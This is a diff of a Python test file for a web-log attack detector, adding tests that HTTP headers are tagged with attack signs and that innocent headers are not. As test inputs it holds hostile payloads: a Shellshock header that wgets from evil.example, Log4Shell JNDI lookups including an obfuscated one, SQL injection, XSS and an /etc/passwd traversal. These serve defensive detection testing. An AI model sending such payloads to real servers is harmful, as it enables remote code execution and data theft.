@@ -1,7 +1,6 @@
 """Attack signs: what must match, however it is encoded, and the innocent URLs that must not."""
 
 import os
-import re
 from pathlib import Path
 
 import polars as pl
@@ -13,6 +12,7 @@ from enrich.logins import login_applications
 from enrich.signs import (
     ASSET_PATH,
     CRAWLER_AGENT,
+    EXPLICIT,
     EXPLOITS,
     LOGIN_PATH,
     PROBES,
@@ -20,13 +20,17 @@ from enrich.signs import (
     TOOL_AGENT,
     Sign,
     decode,
+    mark_headers,
     mark_signs,
     match_signs,
     name_signs,
+    shows,
 )
 from tests.unit.enrich.urls import ATTACKS, INNOCENT
 
 DATA = Path(__file__).parents[3].parent / "shared" / "data"
+SOURCES = ("elastic_apache_logs", "ocatak_scans", "secrepo", "spinster2015_2018", "willthefarmer")
+"""Whose logs the signs were made with; the others are for the evaluation."""
 NAMES = [sign.name for sign in SIGNS]
 
 
@@ -43,6 +47,49 @@ def test_an_attack_shows_its_sign(sign: str, url: str) -> None:
 @pytest.mark.parametrize("url", INNOCENT)
 def test_an_innocent_url_shows_none(url: str) -> None:
     assert signs_of(url) == set()
+
+
+@pytest.mark.parametrize(
+    ("sign", "header"),
+    [
+        ("rce", "() { :; }; /bin/bash -c 'wget http://evil.example/x'"),
+        ("rce", "${jndi:ldap://evil.example/a}"),
+        ("rce", "${${lower:j}ndi:ldap://evil.example/a}"),
+        ("sqli", "Mozilla/5.0' AND SLEEP(5)-- -"),
+        ("xss", "<script>alert(1)</script>"),
+        ("traversal", "http://shop.example/?f=../../../etc/passwd"),
+    ],
+)
+def test_a_header_shows_its_sign(sign: str, header: str) -> None:
+    headers, nothing = pl.Series([None, header, "-"]), pl.Series([None, "-", None], dtype=pl.String)
+    for marks in (mark_headers(headers, nothing), mark_headers(nothing, headers)):
+        assert marks.dtype == pl.UInt16
+        assert [names is not None and sign in names for names in name_signs(marks)] == [False, True, False]
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        None,
+        "",
+        "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "https://www.google.com/search?q=union+select+branches&hl=id",
+        "https://shop.example/wp-admin/",
+        "https://shop.example/.git/config",
+        "https://shop.example/login?next=https%3A%2F%2Fshop.example%2Fcart%3Fa%3D1%26b%3D2",
+    ],
+)
+def test_an_innocent_header_shows_none(header: str | None) -> None:
+    headers = pl.Series([header], dtype=pl.String)
+    assert mark_headers(headers, headers).to_list() == [0]
+
+
+def test_a_class_is_explicit_or_ordinary_somewhere() -> None:
+    assert {"sqli", "exploit", "sensitive", "webshell"} <= set(EXPLICIT)
+    assert {"admin", "cms", "internal"} & set(EXPLICIT) == set()
+    assert set(EXPLOITS) <= set(EXPLICIT)
 
 
 def test_every_class_is_attacked_above() -> None:
@@ -123,18 +170,14 @@ def test_assets(path: str, is_asset: bool) -> None:
 def straightforward(urls: pl.Series) -> pl.DataFrame:
     """Every pattern on every URL, without the hints."""
     decoded = decode(urls)
-    return pl.DataFrame([decoded.str.contains(sign.pattern).fill_null(value=False).alias(sign.name) for sign in SIGNS])
+    found = [shows(sign, pl.col("url")).fill_null(value=False).alias(sign.name) for sign in SIGNS]
+    return decoded.to_frame("url").select(found)
 
 
-def in_python(pattern: str) -> str:
-    """Rewrite a Rust expression for Python's engine."""
-    return re.sub(r"\\x\{([0-9a-f]{2})\}", r"\\x\1", pattern)
-
-
-@pytest.mark.parametrize("sign", SIGNS, ids=NAMES)
+@pytest.mark.parametrize("sign", [sign for sign in SIGNS if sign.hint], ids=lambda sign: sign.name)
 @given(data=st.data())
 def test_a_hint_takes_whatever_its_pattern_takes(sign: Sign, data: st.DataObject) -> None:
-    texts = pl.Series([data.draw(st.from_regex(in_python(sign.pattern)))], dtype=pl.String)
+    texts = pl.Series([data.draw(st.from_regex(sign.pattern))], dtype=pl.String)
     assert (texts.str.contains(sign.hint) | ~texts.str.contains(sign.pattern)).all()
 
 
@@ -162,8 +205,8 @@ def test_hints_change_nothing_about_the_urls_of_attackers_and_visitors() -> None
 def test_hints_change_nothing_on_real_logs() -> None:
     requests = [
         text.split('"')[1].partition(" ")[2].rpartition(" ")[0]
-        for path in sorted(DATA.glob("*/access.log"))
-        for text in path.read_text("utf-8", "backslashreplace").splitlines()
+        for source in SOURCES
+        for text in (DATA / source / "access.log").read_text("utf-8", "backslashreplace").splitlines()
         if text.count('"') > 1
     ]
     urls = pl.Series(requests).unique()
